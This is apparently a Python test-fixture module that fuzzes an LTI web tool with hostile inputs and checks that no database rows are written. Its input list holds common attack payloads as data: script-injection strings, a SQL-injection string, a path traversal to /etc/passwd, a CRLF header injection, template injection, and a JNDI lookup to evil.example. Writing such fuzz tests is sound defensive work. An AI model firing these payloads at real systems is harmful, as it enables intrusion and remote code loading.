"""Hostile inputs for the web tool: strings, hosts, tokens (signed with the platform key of
lti_web_fixtures, or not at all) and the row counts that show nothing was written."""

from __future__ import annotations

import base64
import json
import re
from collections import Counter
from typing import Any

from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.hashes import SHA256
from lti_web_fixtures import _KEY, KID

from lmsbridge.core.store.schema import metadata

NUL = "ab\x00cd"
SURROGATE = "ab\ud800cd"  # JSON can carry it ("\ud800"); no UTF-8 text can
LONG_ID = "i" * 256  # one past the LTI limit for ids

# Values for query and form parameters (UTF-8 encodable: surrogates go in raw queries).
TEXT = [
    "", " ", "\x00", NUL, "\x00" * 50, LONG_ID, "x" * 3000, "x" * 70_000,
    "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "' OR '1'='1' --",
    "%00", "%ED%A0%80", "../../../../etc/passwd", "\r\nSet-Cookie: evil=1", "😀" * 40,
    "\u202eevil", "Ω" * 300, "{{7*7}}", "${jndi:ldap://evil.example/a}",
    "javascript:alert(1)", "https://evil.example/lti/launch", "\ufeff", "\x7f\x01\x1b[31m",
    "-1", "NaN", "1e400", "[]", "{}", "null", "9" * 5000,
]
# Raw query strings: bad percent-escapes, an encoded lone surrogate, invalid UTF-8.
RAW_QUERIES = ["%", "%0", "%ZZ", "a=%FF%FE", "a=%ED%A0%80", "iss=%C0%AF", "=&=&&==",
               "iss&iss&iss", "a[]=1&a[b]=2", "%00=%00"]
HOSTS = ["", "bad host", "[::1", "a:99999", "exa mple:80", "x@y", "localhost:abc",
         "localhost:0", "evil.example", "a" * 300, "-bad-.example", "[fe80::1%25eth0]",
         "[::1]:65536", "127.0.0.1:80:80", "..", "localhost/../x", "\x00", "ĥost.example"]


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def compact(header: bytes, payload: bytes, key=_KEY) -> str:
    """A compact JWS of exactly these header and payload bytes, RS256-signed with ``key``."""
    signing_input = f"{b64(header)}.{b64(payload)}".encode()
    return f"{signing_input.decode()}.{b64(key.sign(signing_input, PKCS1v15(), SHA256()))}"


def signed(claims: Any, header: dict[str, Any] | None = None) -> str:
    """``claims`` as JSON (NaN, 1e400 and lone surrogates kept as Python writes them)."""
    h = {"alg": "RS256", "typ": "JWT", "kid": KID} if header is None else header
    return compact(json.dumps(h).encode(), json.dumps(claims).encode())


def nested(depth: int, inner: bytes = b"1") -> bytes:
    return b"[" * depth + inner + b"]" * depth


def rule_of(body: str) -> str | None:
    m = re.search(r'<span id="rule">([^<]*)</span>', body)
    return m.group(1) if m else None


_NAMES = [t.name for t in metadata.sorted_tables]
# One plain statement, quoted alike by SQLite and PostgreSQL: fuzzing counts once a request.
_COUNTS = "SELECT " + ", ".join(f'(SELECT count(*) FROM "{n}")' for n in _NAMES)


def row_counts(engine) -> dict[str, int]:
    """Rows in every table of the schema, in one round trip."""
    with engine.connect() as conn:
        return dict(zip(_NAMES, conn.exec_driver_sql(_COUNTS).one(), strict=True))


class FuzzTally:
    """Requests tried and handled (no unexpected 5xx, nothing written) per route and
    database, with the statuses seen."""

    def __init__(self) -> None:
        self.tried: Counter[tuple[str, str]] = Counter()
        self.handled: Counter[tuple[str, str]] = Counter()
        self.statuses: dict[tuple[str, str], Counter[int]] = {}

    def add(self, route: str, backend: str, status: int, ok: bool) -> None:
        key = (route, backend)
        self.tried[key] += 1
        self.handled[key] += ok
        self.statuses.setdefault(key, Counter())[status] += 1

    def lines(self) -> list[str]:
        out = [f"{'route':34} {'database':10} {'tried':>6} {'handled':>8}  statuses"]
        for key in sorted(self.tried):
            statuses = " ".join(f"{s}:{n}" for s, n in sorted(self.statuses[key].items()))
            out.append(f"{key[0]:34} {key[1]:10} {self.tried[key]:6} {self.handled[key]:8}"
                       f"  {statuses}")
        return out
